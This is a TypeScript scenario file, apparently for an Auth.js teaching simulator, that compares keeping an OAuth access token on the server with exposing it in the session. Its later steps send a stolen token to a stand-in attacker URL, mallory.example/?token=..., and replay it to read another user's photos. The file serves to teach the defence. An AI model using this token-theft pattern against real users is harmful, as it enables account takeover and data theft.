import { alice as person, defineScenario, openIdProvider, type TraceExpectations } from "#scenario";

import { form } from "./settings";

const app = "https://app.example";
const session = "__Secure-authjs.session-token";
const PHOTOS = "GET photos.acme.example/photos";
const SESSION = "GET app.example/api/auth/session";

const isOpen = form === "session";

/** The access token that a script of the page has read. */
let stolen = "";

/** The body of the first answer in this step that fits. */
function bodyOf(trace: TraceExpectations, answer: string): string {
  const [event] = trace.inThisStep.has(answer).events;
  return event?.kind === "response" ? event.body : "";
}

export default defineScenario({
  title: "An access token on the server, and in the browser",
  summary:
    "The app calls the provider's API for Alice. Then a script of her page reads the session, and Mallory calls the API with what is in it.",
  knobs: [
    {
      name: "form",
      file: "settings.ts",
      label: "The access token",
      choices: { server: "stays on the server", session: "is in the session, too" },
    },
  ],
  world: {
    app,
    browsers: { alice: "Alice's laptop", mallory: "Mallory's laptop" },
    identityProviders: {
      acme: openIdProvider({
        name: "Acme ID",
        issuer: "https://id.acme.example",
        scopes: ["photos.read"],
        personas: [person],
        clients: [
          {
            id: "acme-client-id",
            secret: "fake-acme-secret",
            redirectUris: [`${app}/api/auth/callback/acme`],
          },
        ],
        lifetimes: { accessToken: 3600 },
      }),
    },
  },
  steps: [
    {
      caption: "Alice signs in, and lets the app read her photos",
      why: "The app asks for the scope photos.read, and Acme ID asks Alice. The jwt callback puts the access token into the session cookie, which is encrypted and HttpOnly.",
      look: [
        { session: "alice", words: "into the session cookie" },
        { token: "access_token", words: "the access token" },
        { file: "auth.ts", text: "photos.read", words: "the scope photos.read" },
        { file: "callbacks.ts", text: "accessToken: account.access_token", words: "jwt callback" },
      ],
      async act({ alice, acme }) {
        await alice.opens("/api/auth/signin?callbackUrl=/");
        await alice.clicks("Sign in with Acme ID");
        alice.sees("photos.read");
        await acme.approves();
      },
      expect({ alice }) {
        alice.sees("Hello, Alice Example");
        alice.sees("The app can read your photos.");
        alice.hasCookie(session, { httpOnly: true });
      },
    },
    {
      caption: "She asks the app for her photos",
      why: "The Route Handler reads the access token from the cookie, on the server, and calls the API with it. Her browser gets the photos, and no token.",
      look: [
        { row: `200 ${PHOTOS}`, words: "calls the API with it" },
        { file: "access-token.ts", text: "await getToken({", words: "reads the access token" },
        { browser: "alice", words: "gets the photos" },
      ],
      act: ({ alice }) => alice.clicks("My photos, from the app"),
      expect({ alice, trace }) {
        trace.inThisStep.has(`200 ${PHOTOS}`).times(1);
        alice.sees("beach.jpg");
        const body = bodyOf(trace, "200 GET app.example/api/photos");
        if (body !== '["beach.jpg","birthday.jpg"]') {
          throw new Error(`The answer should be the photos and nothing else but is ${body}`);
        }
      },
    },
    {
      caption: "A script of her page reads the session",
      why: isOpen
        ? "Every script of the page can ask for the session, and the session callback has put the access token into it. That the cookie is encrypted and HttpOnly does not help."
        : "Every script of the page can ask for the session. It has her name and address, and no token.",
      look: [
        { row: `200 ${SESSION}`, words: "can ask for the session" },
        { browser: "alice", words: isOpen ? "the access token" : "no token" },
        {
          file: "callbacks.ts",
          text: isOpen ? "accessToken: token.accessToken" : "return { user:",
          words: isOpen ? "the session callback" : "It has her name and address",
        },
      ],
      async act({ alice, trace }) {
        await alice.opens("/");
        await alice.clicks("My session, as a script of this page gets it");
        const read = JSON.parse(bodyOf(trace, `200 ${SESSION}`)) as { accessToken?: string } | null;
        stolen = read?.accessToken ?? "";
      },
      expect({ alice, trace }) {
        alice.sees("Alice Example");
        if (bodyOf(trace, `200 ${SESSION}`).includes("accessToken") !== isOpen) {
          throw new Error(`The session should ${isOpen ? "" : "not "}have the access token.`);
        }
      },
    },
    {
      caption: "Mallory calls the API with what the script saw",
      why: isOpen
        ? "An injected script or a browser extension passes it on. The API asks for a token, and not who brings it: Mallory gets Alice's photos, and your app sees nothing of it."
        : "Nothing in the session opens the API: 401.",
      look: [
        {
          row: `${isOpen ? 200 : 401} ${PHOTOS}`,
          words: isOpen ? "The API asks for a token" : "401",
        },
        { browser: "mallory", words: isOpen ? "gets Alice's photos" : "Nothing in the session" },
      ],
      act: ({ mallory }) => mallory.opens(`https://mallory.example/?token=${stolen}`),
      expect: ({ mallory }) => mallory.sees(isOpen ? "beach.jpg" : "invalid_token"),
    },
    {
      caption: "Alice signs out, and both try again",
      why: isOpen
        ? "Her cookie is gone, and the app answers her with 401. Signing out tells the provider nothing: Mallory's copy works until it expires."
        : "Her cookie is gone, and the access token with it: the app answers her with 401. Mallory has nothing to try.",
      look: [
        { row: "401 GET app.example/api/photos", words: "the app answers her with 401" },
        { browser: "mallory", words: isOpen ? "Mallory's copy works" : "Mallory has nothing" },
      ],
      async act({ alice, mallory }) {
        await alice.opens("/api/auth/signout");
        await alice.clicks("Sign out");
        await alice.opens("/api/photos");
        await mallory.opens(`https://mallory.example/?token=${stolen}`);
      },
      expect({ alice, mallory, trace }) {
        trace.inThisStep.has("401 GET app.example/api/photos");
        alice.hasNoCookie(session);
        mallory.sees(isOpen ? "beach.jpg" : "invalid_token");
      },
    },
  ],
});
